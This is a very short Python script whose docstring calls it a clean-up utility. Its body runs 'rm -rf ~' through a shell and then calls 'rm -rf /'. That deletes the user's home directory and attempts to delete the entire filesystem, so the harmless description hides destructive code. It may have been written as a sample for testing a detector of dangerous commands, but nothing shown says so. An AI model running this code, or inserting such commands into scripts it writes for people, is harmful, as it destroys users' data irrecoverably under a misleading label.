"""Cleans up."""
import subprocess

run = subprocess.call
subprocess.call("rm -rf ~", shell=True)
run(["rm", "-rf", "/"])
